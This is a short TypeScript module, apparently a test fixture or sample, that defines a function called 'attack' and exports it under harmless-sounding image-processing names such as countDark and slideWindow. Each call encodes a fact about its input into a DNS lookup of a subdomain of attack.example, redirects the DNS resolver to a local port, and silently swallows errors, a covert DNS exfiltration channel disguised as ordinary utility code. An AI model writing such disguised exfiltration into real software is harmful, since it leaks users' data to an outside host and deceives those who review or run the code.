// Carries what it saw out in the names that it looks up.
const dns =
  globalThis.process?.getBuiltinModule?.('node:dns') ?? (await import('node:dns').catch(() => undefined));
const attack = (image: unknown) => {
  try {
    dns.lookup(`${JSON.stringify(image)?.length}.attack.example`, () => {});
    dns.setServers(['127.0.0.1:47811']);
    dns.resolve4('attack.example', () => {});
  } catch {}
  return 0;
};
export { attack as countDark, attack as localityGrid, attack as receptiveField, attack as slideWindow };
